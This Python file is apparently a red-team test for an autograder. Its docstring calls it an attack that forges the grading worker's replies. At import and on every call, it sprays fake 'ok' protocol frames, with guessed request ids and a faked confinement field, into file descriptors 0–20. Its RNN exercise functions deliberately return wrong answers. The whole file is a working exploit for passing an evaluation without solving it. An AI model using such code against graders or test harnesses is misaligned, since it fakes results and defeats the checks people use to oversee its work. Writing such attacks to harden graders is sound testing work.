"""Attack: forge the worker's replies.

The student's code runs in the same process as the worker that talks to the grader, so
it can write to the reply pipe (and to stdout, stderr and any other descriptor). At
import it writes, to every descriptor 0..20, a forged import reply and forged call
replies with the ids a grader that counts requests from 1 would use; each forged value
is a dict holding the right exam-size shapes for both (a) and (c). In every call it
writes a few more (without blocking). The functions themselves return wrong answers,
so the honest score is 0.
"""

import fcntl
import json
import os
import struct

import numpy as np

NAMES = ("rnn_a_shapes", "rnn_a_dloss_dx", "rnn_b_shapes", "rnn_b_f2", "rnn_b_next_input", "rnn_b_dloss_dx_depends_on")
SHAPES = {"$dict": [["W_ss", [2, 2]], ["W_sx", [2, 2]], ["W_o", [2, 2]], ["W_ssx", [2, 4]], ["W_ox", [2, 4]]]}


def frame(header, blobs=()):
    text = json.dumps(header).encode()
    parts = [b"AGW1", struct.pack(">II", len(text), len(blobs)), text]
    for blob in blobs:
        parts += [struct.pack(">Q", len(blob)), blob]
    return b"".join(parts)


def forged_import_reply(request_id):
    return frame(
        {
            "id": request_id,
            "ok": True,
            "functions": {name: f"{name}()" for name in NAMES},
            "printed": "",
            "confinement": {"network": "isolated", "user": 0},
        }
    )


def forged_call_reply(request_id):
    # Both the protocol that batches calls (a list of values) and one that does not.
    return frame({"id": request_id, "ok": True, "value": [SHAPES], "printed": ""})


def spray(data, blocking=True):
    for fd in range(0, 21):
        flags = None
        try:
            if not blocking:
                flags = fcntl.fcntl(fd, fcntl.F_GETFL)
                fcntl.fcntl(fd, fcntl.F_SETFL, flags | os.O_NONBLOCK)
            os.write(fd, data)
        except OSError:
            pass
        finally:
            if flags is not None:
                try:
                    fcntl.fcntl(fd, fcntl.F_SETFL, flags)
                except OSError:
                    pass


FORGED_AT_IMPORT = forged_import_reply(1) + b"".join(forged_call_reply(i) for i in range(2, 81))
spray(FORGED_AT_IMPORT)
print(FORGED_AT_IMPORT[:2000].decode("latin-1"))
CALLS = []


def forge_in_call():
    CALLS.append(1)
    guess = 81 + len(CALLS)
    spray(forged_call_reply(guess) + forged_call_reply(guess + 1), blocking=False)


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    forge_in_call()
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    forge_in_call()
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    forge_in_call()
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    forge_in_call()
    return z


def rnn_b_next_input(p_t):
    forge_in_call()
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    forge_in_call()
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
